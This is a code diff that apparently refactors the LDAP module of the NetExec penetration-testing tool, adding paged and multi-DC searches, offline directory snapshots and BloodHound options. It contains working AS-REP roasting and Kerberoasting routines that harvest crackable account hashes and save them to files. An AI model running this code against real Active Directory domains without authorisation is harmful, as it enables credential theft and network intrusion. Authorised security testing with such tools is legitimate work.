@@ -4,10 +4,11 @@ import hashlib
 import hmac
 import os
 import socket
+import sqlite3
 from binascii import hexlify
 from datetime import datetime
+from functools import partial
 from re import sub, I
-from zipfile import ZipFile
 from termcolor import colored
 
 from Cryptodome.Hash import MD4
@@ -23,9 +24,8 @@ from impacket.dcerpc.v5.samr import (
     UF_TRUSTED_TO_AUTHENTICATE_FOR_DELEGATION,
 )
 from impacket.dcerpc.v5.transport import DCERPCTransportFactory
-from impacket.krb5 import constants
-from impacket.krb5.kerberosv5 import getKerberosTGS, SessionKeyDecryptionError
-from impacket.krb5.types import Principal, KerberosException
+from impacket.krb5.kerberosv5 import SessionKeyDecryptionError
+from impacket.krb5.types import KerberosException
 from impacket.ldap import ldap as ldap_impacket
 from impacket.ldap import ldapasn1 as ldapasn1_impacket
 from impacket.smb import SMB_DIALECT
@@ -35,9 +35,14 @@ from nxc.config import process_secret, host_info_colors
 from nxc.connection import connection
 from nxc.helpers.bloodhound import add_user_bh
 from nxc.logger import NXCAdapter, nxc_logger
-from nxc.protocols.ldap.bloodhound import BloodHound
+from nxc.protocols.ldap.bloodhound import BloodHound, cache_path, stream_output, workspace_path, write_computerfile
 from nxc.protocols.ldap.gmsa import MSDS_MANAGEDPASSWORD_BLOB
 from nxc.protocols.ldap.kerberos import KerberosAttacks
+from nxc.protocols.ldap.fanout import fan_out_search, object_class_partitions, sam_prefix_partitions
+from nxc.protocols.ldap.filter import compile_filter
+from nxc.protocols.ldap.search import paged_search
+from nxc.protocols.ldap.sidcache import get_sid_cache
+from nxc.protocols.ldap.snapshot import get_snapshot, write_snapshot
 
 ldap_error_status = {
     "1": "STATUS_NOT_SUPPORTED",
@@ -126,6 +131,10 @@ def resolve_collection_methods(methods):
             return False
 
 
+# ACCOUNTDISABLE, evaluated locally on search_paged() entries
+account_disabled = compile_filter("(userAccountControl:1.2.840.113556.1.4.803:=2)")
+
+
 class ldap(connection):
     def __init__(self, args, db, host):
         self.domain = None
@@ -146,6 +155,7 @@ class ldap(connection):
         self.admin_privs = False
         self.no_ntlm = False
         self.sid_domain = ""
+        self.fanout_pool = None
 
         connection.__init__(self, args, db, host)
 
@@ -248,52 +258,86 @@ class ldap(connection):
                     return value.split("\\")[1]
         return ""
 
-    def enum_host_info(self):
-        self.target, self.targetDomain, self.baseDN = self.get_ldap_info(self.host)
-        self.hostname = self.target
-        self.domain = self.targetDomain
-        # smb no open, specify the domain
+    def fingerprint_attrs(self):
         if self.args.no_smb:
-            self.domain = self.args.domain
-        else:
-            self.local_ip = self.conn.getSMBServer().get_socket().getsockname()[0]
+            return ("target", "targetDomain", "baseDN")
+        return ("target", "targetDomain", "baseDN", "hostname", "domain", "server_os", "os_arch", "no_ntlm")
 
-            try:
-                self.conn.login("", "")
-            except BrokenPipeError as e:
-                self.logger.fail(f"Broken Pipe Error while attempting to login: {e}")
-            except Exception as e:
-                if "STATUS_NOT_SUPPORTED" in str(e):
-                    self.no_ntlm = True
-            if not self.no_ntlm:
-                self.domain = self.conn.getServerDNSDomainName()
-                self.hostname = self.conn.getServerName()
-            self.server_os = self.conn.getServerOS()
-            self.signing = self.conn.isSigningRequired() if self.smbv1 else self.conn._SMBConnection._Connection["RequireSigning"]
-            self.os_arch = self.get_os_arch()
+    def enum_host_info(self):
+        if self.args.snapshot:
+            # Everything we know about the DC comes from the snapshot
+            info = self.ldapConnection.info
+            self.target = self.hostname = info["hostname"]
+            self.targetDomain = self.domain = info["domain"]
+            self.baseDN = info["baseDN"]
+            self.username = info.get("username", "")
+            domain_object = next(self.ldapConnection.search_entries("(objectClass=domain)", ["objectSid"], 1, self.baseDN, 0), None)
+            if domain_object and "objectsid" in domain_object:
+                self.sid_domain = self.sid_to_str(domain_object["objectsid"][0])
             self.logger.extra["hostname"] = self.hostname
+            self.output_filename = os.path.expanduser(f"~/.nxc/logs/{self.hostname}_{self.host}_{datetime.now().strftime('%Y-%m-%d_%H%M%S')}".replace(":", "-"))
+            return
 
-            if not self.domain:
-                self.domain = self.hostname
+        if not self.args.no_smb:
+            self.local_ip = self.conn.getSMBServer().get_socket().getsockname()[0]
+            self.signing = self.conn.isSigningRequired() if self.smbv1 else self.conn._SMBConnection._Connection["RequireSigning"]
 
-            try:  # noqa: SIM105
-                # DC's seem to want us to logoff first, windows workstations sometimes reset the connection
-                self.conn.logoff()
-            except Exception:
-                pass
+        if not self.load_fingerprint():
+            self.fingerprint_host()
+            if self.baseDN:
+                self.save_fingerprint()
 
+        # smb no open, specify the domain
+        if self.args.no_smb:
+            self.hostname = self.target
+            self.domain = self.args.domain
+        else:
+            self.logger.extra["hostname"] = self.hostname
             if self.args.domain:
                 self.domain = self.args.domain
             if self.args.local_auth:
                 self.domain = self.hostname
-
-            # Re-connect since we logged off
-            self.create_conn_obj()
         self.output_filename = os.path.expanduser(f"~/.nxc/logs/{self.hostname}_{self.host}_{datetime.now().strftime('%Y-%m-%d_%H%M%S')}".replace(":", "-"))
 
+    def fingerprint_host(self):
+        """Queries the rootDSE and, unless --no-smb is set, does an anonymous SMB login and DCERPC bind to gather the host information"""
+        self.target, self.targetDomain, self.baseDN = self.get_ldap_info(self.host)
+        self.hostname = self.target
+        self.domain = self.targetDomain
+        if self.args.no_smb:
+            return
+
+        try:
+            self.conn.login("", "")
+        except BrokenPipeError as e:
+            self.logger.fail(f"Broken Pipe Error while attempting to login: {e}")
+        except Exception as e:
+            if "STATUS_NOT_SUPPORTED" in str(e):
+                self.no_ntlm = True
+        if not self.no_ntlm:
+            self.domain = self.conn.getServerDNSDomainName()
+            self.hostname = self.conn.getServerName()
+        self.server_os = self.conn.getServerOS()
+        self.os_arch = self.get_os_arch()
+
+        if not self.domain:
+            self.domain = self.hostname
+
+        try:  # noqa: SIM105
+            # DC's seem to want us to logoff first, windows workstations sometimes reset the connection
+            self.conn.logoff()
+        except Exception:
+            pass
+
+        # Re-connect since we logged off
+        self.create_conn_obj()
+
     def print_host_info(self):
         self.logger.debug("Printing host info for LDAP")
-        if self.args.no_smb:
+        if self.args.snapshot:
+            created = datetime.fromtimestamp(self.ldapConnection.info["created"]).strftime("%Y-%m-%d %H:%M:%S")
+            self.logger.display(f"Offline snapshot of {self.domain} taken on {created} ({self.ldapConnection.info['objects']} objects)")
+        elif self.args.no_smb:
             self.logger.extra["protocol"] = "LDAP"
             self.logger.extra["port"] = "389"
             self.logger.display(f"Connecting to LDAP {self.hostname}")
@@ -665,8 +709,24 @@ class ldap(connection):
         return True
 
     def create_conn_obj(self):
+        if self.args.snapshot:
+            return self.open_snapshot()
         return bool(self.args.no_smb or self.create_smbv1_conn() or self.create_smbv3_conn())
 
+    def open_snapshot(self):
+        try:
+            self.ldapConnection = get_snapshot(self.args.snapshot)
+        except (OSError, ValueError, KeyError) as e:
+            self.logger.fail(f"Could not load the snapshot {self.args.snapshot}: {e}")
+            return False
+        return True
+
+    def login(self):
+        # There is nothing to authenticate against when working on a snapshot
+        if self.args.snapshot:
+            return True
+        return connection.login(self)
+
     def get_sid(self):
         self.logger.highlight(f"Domain SID {self.sid_domain}")
 
@@ -729,6 +789,13 @@ class ldap(connection):
         t /= 10000000
         return t
 
+    def ldap_time(self, entry, attribute, default):
+        """Formats a FILETIME attribute of a search_paged() entry, `default` if the entry has no such attribute"""
+        if attribute not in entry:
+            return default
+        value = entry[attribute][0]
+        return "<never>" if value == "0" else str(datetime.fromtimestamp(self.getUnixTime(int(value))))
+
     def search(self, searchFilter, attributes, sizeLimit=0):
         try:
             if self.ldapConnection:
@@ -752,6 +819,50 @@ class ldap(connection):
                 return False
         return False
 
+    def search_paged(self, searchFilter, attributes, sizeLimit=0, baseDN=None):
+        """Streaming variant of search(): yields the entries as dicts of values keyed by lower-cased attribute name, page by page.
+
+        The caller can stop iterating at any time, LDAP errors are logged and end the iteration.
+        With --fanout, searches without size limit are split in partitions answered in parallel by several DCs.
+        """
+        if not self.ldapConnection:
+            return
+        self.logger.debug(f"Search Filter={searchFilter}")
+        try:
+            if self.args.fanout is not None and not self.args.snapshot and not sizeLimit and self.fanout_connections():
+                partitions = object_class_partitions() if self.args.fanout_partition == "objectclass" else sam_prefix_partitions(2 * len(self.fanout_pool))
+                yield from fan_out_search(self.fanout_pool, searchFilter, attributes, partitions, baseDN)
+            else:
+                yield from paged_search(self.ldapConnection, searchFilter, attributes, sizeLimit, baseDN)
+        except ldap_impacket.LDAPSearchError as e:
+            self.logger.fail(e)
+
+    def fanout_connections(self):
+        """Connections used by --fanout, one per DC, opened on first use with the credentials of the current session"""
+        if self.fanout_pool is None:
+            dcs = self.args.fanout
+            if not dcs:
+                dcs = [entry["dnshostname"][0] for entry in paged_search(self.ldapConnection, "(&(objectCategory=computer)(primaryGroupID=516))", ["dNSHostName"]) if "dnshostname" in entry]
+            self.fanout_pool = []
+            for dc in dcs:
+                try:
+                    self.fanout_pool.append(self.connect_dc(dc))
+                except Exception as e:
+                    self.logger.fail(f"Could not connect to {dc} for --fanout: {e}")
+            self.logger.info(f"Spreading the LDAP searches over {len(self.fanout_pool)} DC(s)")
+        return self.fanout_pool
+
+    def connect_dc(self, dc):
+        """Opens a new LDAP connection to the DC (hostname or ldap://, ldaps://, gc:// URL) authenticated like the current one"""
+        url = dc if "://" in dc else f"{'ldaps' if self.ldapConnection._SSL else 'ldap'}://{dc}"
+        self.logger.debug(f"Connecting to {url} - {self.baseDN}")
+        ldap_connection = ldap_impacket.LDAPConnection(url, self.baseDN)
+        if self.kerberos:
+            ldap_connection.kerberosLogin(self.username, self.password, self.domain, self.lmhash, self.nthash, self.aesKey, kdcHost=self.kdcHost, useCache=bool(self.use_kcache))
+        else:
+            ldap_connection.login(self.username, self.password, self.domain, self.lmhash, self.nthash)
+        return ldap_connection
+
     def users(self):
         # Building the search filter
         search_filter = "(sAMAccountType=805306368)" if self.username != "" else "(objectclass=*)"
@@ -763,27 +874,17 @@ class ldap(connection):
             "pwdLastSet",
         ]
 
-        resp = self.search(search_filter, attributes, sizeLimit=0)
-        if resp:
-            self.logger.display(f"Total of records returned {len(resp):d}")
-            for item in resp:
-                if isinstance(item, ldapasn1_impacket.SearchResultEntry) is not True:
-                    continue
-                sAMAccountName = ""
-                description = ""
-                try:
-                    if self.username == "":
-                        self.logger.highlight(f"{item['objectName']}")
-                    else:
-                        for attribute in item["attributes"]:
-                            if str(attribute["type"]) == "sAMAccountName":
-                                sAMAccountName = str(attribute["vals"][0])
-                            elif str(attribute["type"]) == "description":
-                                description = str(attribute["vals"][0])
-                        self.logger.highlight(f"{sAMAccountName:<30} {description}")
-                except Exception as e:
-                    self.logger.debug(f"Skipping item, cannot process due to error {e}")
-            return
+        count = 0
+        for entry in self.search_paged(search_filter, attributes, sizeLimit=0):
+            count += 1
+            if self.username == "":
+                self.logger.highlight(entry["dn"])
+            else:
+                sAMAccountName = entry.get("samaccountname", [""])[0]
+                description = entry.get("description", [""])[0]
+                self.logger.highlight(f"{sAMAccountName:<30} {description}")
+        if count:
+            self.logger.display(f"Total of records returned {count:d}")
 
     def groups(self):
         # Building the search filter
@@ -871,60 +972,30 @@ class ldap(connection):
             "userAccountControl",
             "lastLogon",
         ]
-        resp = self.search(search_filter, attributes, 0)
-        if resp == []:
-            self.logger.highlight("No entries found!")
-        elif resp:
-            answers = []
-            self.logger.display(f"Total of records returned {len(resp):d}")
-
-            for item in resp:
-                if isinstance(item, ldapasn1_impacket.SearchResultEntry) is not True:
-                    continue
-                mustCommit = False
-                sAMAccountName = ""
-                memberOf = ""
-                pwdLastSet = ""
-                userAccountControl = 0
-                lastLogon = "N/A"
-                try:
-                    for attribute in item["attributes"]:
-                        if str(attribute["type"]) == "sAMAccountName":
-                            sAMAccountName = str(attribute["vals"][0])
-                            mustCommit = True
-                        elif str(attribute["type"]) == "userAccountControl":
-                            userAccountControl = "0x%x" % int(attribute["vals"][0])
-                        elif str(attribute["type"]) == "memberOf":
-                            memberOf = str(attribute["vals"][0])
-                        elif str(attribute["type"]) == "pwdLastSet":
-                            pwdLastSet = "<never>" if str(attribute["vals"][0]) == "0" else str(datetime.fromtimestamp(self.getUnixTime(int(str(attribute["vals"][0])))))
-                        elif str(attribute["type"]) == "lastLogon":
-                            lastLogon = "<never>" if str(attribute["vals"][0]) == "0" else str(datetime.fromtimestamp(self.getUnixTime(int(str(attribute["vals"][0])))))
-                    if mustCommit is True:
-                        answers.append(
-                            [
-                                sAMAccountName,
-                                memberOf,
-                                pwdLastSet,
-                                lastLogon,
-                                userAccountControl,
-                            ]
-                        )
-                except Exception as e:
-                    self.logger.debug("Exception:", exc_info=True)
-                    self.logger.debug(f"Skipping item, cannot process due to error {e}")
-            if len(answers) > 0:
-                for user in answers:
-                    hash_TGT = KerberosAttacks(self).get_tgt_asroast(user[0])
-                    hash_TGT = KerberosAttacks(self).get_tgt_asroast(user[0])
-                    self.logger.highlight(f"{hash_TGT}")
-                    with open(self.args.asreproast, "a+") as hash_asreproast:
-                        hash_asreproast.write(hash_TGT + "\n")
-                return True
-            else:
-                self.logger.highlight("No entries found!")
+        answers = []
+        for entry in self.search_paged(search_filter, attributes, 0):
+            try:
+                if "samaccountname" in entry:
+                    answers.append(
+                        [
+                            entry["samaccountname"][0],
+                            entry.get("memberof", [""])[0],
+                            self.ldap_time(entry, "pwdlastset", ""),
+                            self.ldap_time(entry, "lastlogon", "N/A"),
+                            "0x%x" % int(entry.get("useraccountcontrol", [0])[0]),
+                        ]
+                    )
+            except Exception as e:
+                self.logger.debug("Exception:", exc_info=True)
+                self.logger.debug(f"Skipping item, cannot process due to error {e}")
+        if answers:
+            self.logger.display(f"Total of records returned {len(answers):d}")
+            kerberos_attacks = KerberosAttacks(self)
+            for _, hash_TGT in kerberos_attacks.roast(kerberos_attacks.get_tgt_asroast, [user[0] for user in answers], self.args.asreproast, self.args.roast_threads, self.args.roast_kdcs):
+                self.logger.highlight(f"{hash_TGT}")
+            return True
         else:
-            self.logger.fail("Error with the LDAP account used")
+            self.logger.highlight("No entries found!")
 
     def kerberoasting(self):
         # Building the search filter
@@ -937,99 +1008,47 @@ class ldap(connection):
             "userAccountControl",
             "lastLogon",
         ]
-        resp = self.search(searchFilter, attributes, 0)
-        self.logger.debug(f"Search Filter: {searchFilter}")
         self.logger.debug(f"Attributes: {attributes}")
-        self.logger.debug(f"Response: {resp}")
-        if not resp:
-            self.logger.highlight("No entries found!")
-        elif resp:
-            answers = []
-
-            for item in resp:
-                if isinstance(item, ldapasn1_impacket.SearchResultEntry) is not True:
+        answers = []
+        for entry in self.search_paged(searchFilter, attributes, 0):
+            try:
+                if "samaccountname" not in entry:
+                    continue
+                sAMAccountName = entry["samaccountname"][0]
+                userAccountControl = int(entry.get("useraccountcontrol", [0])[0])
+                if userAccountControl & UF_ACCOUNTDISABLE:
+                    self.logger.debug(f"Bypassing disabled account {sAMAccountName} ")
                     continue
-                mustCommit = False
-                sAMAccountName = ""
-                memberOf = ""
-                SPNs = []
-                pwdLastSet = ""
-                userAccountControl = 0
-                lastLogon = "N/A"
                 delegation = ""
-                try:
-                    for attribute in item["attributes"]:
-                        if str(attribute["type"]) == "sAMAccountName":
-                            sAMAccountName = str(attribute["vals"][0])
-                            mustCommit = True
-                        elif str(attribute["type"]) == "userAccountControl":
-                            userAccountControl = str(attribute["vals"][0])
-                            if int(userAccountControl) & UF_TRUSTED_FOR_DELEGATION:
-                                delegation = "unconstrained"
-                            elif int(userAccountControl) & UF_TRUSTED_TO_AUTHENTICATE_FOR_DELEGATION:
-                                delegation = "constrained"
-                        elif str(attribute["type"]) == "memberOf":
-                            memberOf = str(attribute["vals"][0])
-                        elif str(attribute["type"]) == "pwdLastSet":
-                            pwdLastSet = "<never>" if str(attribute["vals"][0]) == "0" else str(datetime.fromtimestamp(self.getUnixTime(int(str(attribute["vals"][0])))))
-                        elif str(attribute["type"]) == "lastLogon":
-                            lastLogon = "<never>" if str(attribute["vals"][0]) == "0" else str(datetime.fromtimestamp(self.getUnixTime(int(str(attribute["vals"][0])))))
-                        elif str(attribute["type"]) == "servicePrincipalName":
-                            SPNs = [str(spn) for spn in attribute["vals"]]
-
-                    if mustCommit is True:
-                        if int(userAccountControl) & UF_ACCOUNTDISABLE:
-                            self.logger.debug(f"Bypassing disabled account {sAMAccountName} ")
-                        else:
-                            answers += [[spn, sAMAccountName, memberOf, pwdLastSet, lastLogon, delegation] for spn in SPNs]
-                except Exception as e:
-                    nxc_logger.error(f"Skipping item, cannot process due to error {e!s}")
-
-            if len(answers) > 0:
-                self.logger.display(f"Total of records returned {len(answers):d}")
-                TGT = KerberosAttacks(self).get_tgt_kerberoasting(self.use_kcache)
-                self.logger.debug(f"TGT: {TGT}")
-                if TGT:
-                    dejavue = []
-                    for (_SPN, sAMAccountName, memberOf, pwdLastSet, lastLogon, _delegation) in answers:
-                        if sAMAccountName not in dejavue:
-                            downLevelLogonName = self.targetDomain + "\\" + sAMAccountName
-
-                            try:
-                                principalName = Principal()
-                                principalName.type = constants.PrincipalNameType.NT_MS_PRINCIPAL.value
-                                principalName.components = [downLevelLogonName]
-
-                                tgs, cipher, oldSessionKey, sessionKey = getKerberosTGS(
-                                    principalName,
-                                    self.domain,
-                                    self.kdcHost,
-                                    TGT["KDC_REP"],
-                                    TGT["cipher"],
-                                    TGT["sessionKey"],
-                                )
-                                r = KerberosAttacks(self).output_tgs(
-                                    tgs,
-                                    oldSessionKey,
-                                    sessionKey,
-                                    sAMAccountName,
-                                    self.targetDomain + "/" + sAMAccountName,
-                                )
-                                self.logger.highlight(f"sAMAccountName: {sAMAccountName} memberOf: {memberOf} pwdLastSet: {pwdLastSet} lastLogon:{lastLogon}")
-                                self.logger.highlight(f"{r}")
-                                if self.args.kerberoasting:
-                                    with open(self.args.kerberoasting, "a+") as hash_kerberoasting:
-                                        hash_kerberoasting.write(r + "\n")
-                                dejavue.append(sAMAccountName)
-                            except Exception as e:
-                                self.logger.debug("Exception:", exc_info=True)
-                                self.logger.fail(f"Principal: {downLevelLogonName} - {e}")
-                    return True
-                else:
-                    self.logger.fail(f"Error retrieving TGT for {self.username}\\{self.domain} from {self.kdcHost}")
+                if userAccountControl & UF_TRUSTED_FOR_DELEGATION:
+                    delegation = "unconstrained"
+                elif userAccountControl & UF_TRUSTED_TO_AUTHENTICATE_FOR_DELEGATION:
+                    delegation = "constrained"
+                memberOf = entry.get("memberof", [""])[0]
+                pwdLastSet = self.ldap_time(entry, "pwdlastset", "")
+                lastLogon = self.ldap_time(entry, "lastlogon", "N/A")
+                answers += [[spn, sAMAccountName, memberOf, pwdLastSet, lastLogon, delegation] for spn in entry.get("serviceprincipalname", [])]
+            except Exception as e:
+                nxc_logger.error(f"Skipping item, cannot process due to error {e!s}")
+
+        if not answers:
+            self.logger.highlight("No entries found!")
+        else:
+            self.logger.display(f"Total of records returned {len(answers):d}")
+            kerberos_attacks = KerberosAttacks(self)
+            TGT = kerberos_attacks.get_tgt_kerberoasting(self.use_kcache)
+            self.logger.debug(f"TGT: {TGT}")
+            if TGT:
+                # one request per account, whatever the number of SPNs
+                accounts = {sAMAccountName: (memberOf, pwdLastSet, lastLogon) for (_SPN, sAMAccountName, memberOf, pwdLastSet, lastLogon, _delegation) in answers}
+                request = partial(kerberos_attacks.get_tgs_kerberoasting, TGT)
+                for sAMAccountName, r in kerberos_attacks.roast(request, accounts, self.args.kerberoasting, self.args.roast_threads, self.args.roast_kdcs):
+                    memberOf, pwdLastSet, lastLogon = accounts[sAMAccountName]
+                    self.logger.highlight(f"sAMAccountName: {sAMAccountName} memberOf: {memberOf} pwdLastSet: {pwdLastSet} lastLogon:{lastLogon}")
+                    self.logger.highlight(f"{r}")
+                return True
             else:
-                self.logger.highlight("No entries found!")
-        self.logger.fail("Error with the LDAP account used")
+                self.logger.fail(f"Error retrieving TGT for {self.username}\\{self.domain} from {self.kdcHost}")
 
     def trusted_for_delegation(self):
         # Building the search filter
@@ -1041,46 +1060,8 @@ class ldap(connection):
             "userAccountControl",
             "lastLogon",
         ]
-        resp = self.search(searchFilter, attributes, 0)
-
-        answers = []
-        self.logger.debug(f"Total of records returned {len(resp):d}")
-
-        for item in resp:
-            if isinstance(item, ldapasn1_impacket.SearchResultEntry) is not True:
-                continue
-            mustCommit = False
-            sAMAccountName = ""
-            memberOf = ""
-            pwdLastSet = ""
-            userAccountControl = 0
-            lastLogon = "N/A"
-            try:
-                for attribute in item["attributes"]:
-                    if str(attribute["type"]) == "sAMAccountName":
-                        sAMAccountName = str(attribute["vals"][0])
-                        mustCommit = True
-                    elif str(attribute["type"]) == "userAccountControl":
-                        userAccountControl = "0x%x" % int(attribute["vals"][0])
-                    elif str(attribute["type"]) == "memberOf":
-                        memberOf = str(attribute["vals"][0])
-                    elif str(attribute["type"]) == "pwdLastSet":
-                        pwdLastSet = "<never>" if str(attribute["vals"][0]) == "0" else str(datetime.fromtimestamp(self.getUnixTime(int(str(attribute["vals"][0])))))
-                    elif str(attribute["type"]) == "lastLogon":
-                        lastLogon = "<never>" if str(attribute["vals"][0]) == "0" else str(datetime.fromtimestamp(self.getUnixTime(int(str(attribute["vals"][0])))))
-                if mustCommit is True:
-                    answers.append(
-                        [
-                            sAMAccountName,
-                            memberOf,
-                            pwdLastSet,
-                            lastLogon,
-                            userAccountControl,
-                        ]
-                    )
-            except Exception as e:
-                self.logger.debug("Exception:", exc_info=True)
-                self.logger.debug(f"Skipping item, cannot process due to error {e}")
+        answers = [self.account_summary(entry) for entry in self.search_paged(searchFilter, attributes) if "samaccountname" in entry]
+        self.logger.debug(f"Total of records returned {len(answers):d}")
         if len(answers) > 0:
             self.logger.debug(answers)
             for value in answers:
@@ -1091,69 +1072,15 @@ class ldap(connection):
     def password_not_required(self):
         # Building the search filter
         searchFilter = "(userAccountControl:1.2.840.113556.1.4.803:=32)"
-        try:
-            self.logger.debug(f"Search Filter={searchFilter}")
-            resp = self.ldapConnection.search(
-                searchFilter=searchFilter,
-                attributes=[
-                    "sAMAccountName",
-                    "pwdLastSet",
-                    "MemberOf",
-                    "userAccountControl",
-                    "lastLogon",
-                ],
-                sizeLimit=0,
-            )
-        except ldap_impacket.LDAPSearchError as e:
-            if e.getErrorString().find("sizeLimitExceeded") >= 0:
-                self.logger.debug("sizeLimitExceeded exception caught, giving up and processing the data received")
-                # We reached the sizeLimit, process the answers we have already and that's it. Until we implement
-                # paged queries
-                resp = e.getAnswers()
-            else:
-                return False
-        answers = []
-        self.logger.debug(f"Total of records returned {len(resp):d}")
-
-        for item in resp:
-            if isinstance(item, ldapasn1_impacket.SearchResultEntry) is not True:
-                continue
-            mustCommit = False
-            sAMAccountName = ""
-            memberOf = ""
-            pwdLastSet = ""
-            userAccountControl = 0
-            status = "enabled"
-            lastLogon = "N/A"
-            try:
-                for attribute in item["attributes"]:
-                    if str(attribute["type"]) == "sAMAccountName":
-                        sAMAccountName = str(attribute["vals"][0])
-                        mustCommit = True
-                    elif str(attribute["type"]) == "userAccountControl":
-                        if int(attribute["vals"][0]) & 2:
-                            status = "disabled"
-                        userAccountControl = f"0x{int(attribute['vals'][0]):x}"
-                    elif str(attribute["type"]) == "memberOf":
-                        memberOf = str(attribute["vals"][0])
-                    elif str(attribute["type"]) == "pwdLastSet":
-                        pwdLastSet = "<never>" if str(attribute["vals"][0]) == "0" else str(datetime.fromtimestamp(self.getUnixTime(int(str(attribute["vals"][0])))))
-                    elif str(attribute["type"]) == "lastLogon":
-                        lastLogon = "<never>" if str(attribute["vals"][0]) == "0" else str(datetime.fromtimestamp(self.getUnixTime(int(str(attribute["vals"][0])))))
-                if mustCommit is True:
-                    answers.append(
-                        [
-                            sAMAccountName,
-                            memberOf,
-                            pwdLastSet,
-                            lastLogon,
-                            userAccountControl,
-                            status,
-                        ]
-                    )
-            except Exception as e:
-                self.logger.debug("Exception:", exc_info=True)
-                self.logger.debug(f"Skipping item, cannot process due to error {e!s}")
+        attributes = [
+            "sAMAccountName",
+            "pwdLastSet",
+            "MemberOf",
+            "userAccountControl",
+            "lastLogon",
+        ]
+        answers = [[*self.account_summary(entry), "disabled" if account_disabled(entry) else "enabled"] for entry in self.search_paged(searchFilter, attributes) if "samaccountname" in entry]
+        self.logger.debug(f"Total of records returned {len(answers):d}")
         if len(answers) > 0:
             self.logger.debug(answers)
             for value in answers:
@@ -1161,6 +1088,16 @@ class ldap(connection):
         else:
             self.logger.fail("No entries found!")
 
+    def account_summary(self, entry):
+        """[sAMAccountName, first memberOf, pwdLastSet, lastLogon, userAccountControl] of a search_paged() entry"""
+        return [
+            entry["samaccountname"][0],
+            entry.get("memberof", [""])[0],
+            self.ldap_time(entry, "pwdlastset", ""),
+            self.ldap_time(entry, "lastlogon", "N/A"),
+            f"0x{int(entry.get('useraccountcontrol', ['0'])[0]):x}",
+        ]
+
     def admin_count(self):
         # Building the search filter
         searchFilter = "(adminCount=1)"
@@ -1334,6 +1271,20 @@ class ldap(connection):
         else:
             self.logger.fail("No string provided :'(")
 
+    def dump_snapshot(self):
+        if self.args.snapshot:
+            self.logger.fail("Cannot dump a snapshot while working on a snapshot")
+            return
+        path = self.args.dump_snapshot or f"{self.output_filename}.snapshot.db"
+        info = {"baseDN": self.baseDN, "domain": self.domain, "hostname": self.hostname, "host": self.host, "username": self.username}
+        self.logger.display(f"Dumping the directory to {path}")
+        try:
+            count = write_snapshot(self.ldapConnection, path, info, self.args.snapshot_attributes)
+        except (ldap_impacket.LDAPSearchError, OSError, sqlite3.Error) as e:
+            self.logger.fail(f"Error dumping the directory: {e}")
+            return
+        self.logger.success(f"Dumped {count} objects, use --snapshot {path} to enumerate them offline")
+
     def bloodhound(self):
         auth = ADAuthentication(
             username=self.username,
@@ -1367,23 +1318,34 @@ class ldap(connection):
             self.logger.highlight("Using kerberos auth from ccache")
 
         timestamp = datetime.now().strftime("%Y-%m-%d_%H%M%S") + "_"
-        bloodhound = BloodHound(ad, self.hostname, self.host, self.port)
+        sid_cache = get_sid_cache(self.domain)
+        try:
+            sid_cache.prefill(self.ldapConnection)
+        except Exception as e:
+            self.logger.debug(f"Could not prefetch the security principals: {e}")
+        bloodhound = BloodHound(ad, self.hostname, self.host, self.port, sid_cache)
         bloodhound.connect()
 
-        bloodhound.run(
-            collect=collect,
-            num_workers=10,
-            disable_pooling=False,
-            timestamp=timestamp,
-            computerfile=None,
-            cachefile=None,
-            exclude_dcs=False,
-        )
-
-        self.logger.highlight(f"Compressing output into {self.output_filename}bloodhound.zip")
-        list_of_files = os.listdir(os.getcwd())
-        with ZipFile(self.output_filename + "bloodhound.zip", "w") as z:
-            for each_file in list_of_files:
-                if each_file.startswith(timestamp) and each_file.endswith("json"):
-                    z.write(each_file)
-                    os.remove(each_file)
+        computerfile = None
+        if self.args.bh_known_computers:
+            computerfile = workspace_path(f"bloodhound_{self.domain.lower()}.computers.txt")
+            count = write_computerfile(self.domain, computerfile)
+            if count:
+                self.logger.display(f"Limiting the computer enumeration to the {count} hosts of {self.domain} found by the smb protocol")
+            else:
+                self.logger.display(f"No host of {self.domain} found by the smb protocol, enumerating all the computers")
+                computerfile = None
+
+        zip_path = f"{self.output_filename}bloodhound.zip"
+        self.logger.highlight(f"Compressing output into {zip_path}")
+        with stream_output(zip_path, timestamp, self.args.bh_chunk_size) as archive:
+            bloodhound.run(
+                collect=collect,
+                num_workers=self.args.bh_workers,
+                disable_pooling=self.args.bh_disable_pooling,
+                timestamp=timestamp,
+                computerfile=computerfile,
+                cachefile=None if self.args.bh_no_cache else cache_path(self.domain),
+                exclude_dcs=False,
+            )
+        self.logger.debug(f"Wrote {', '.join(archive.names)} to {zip_path}")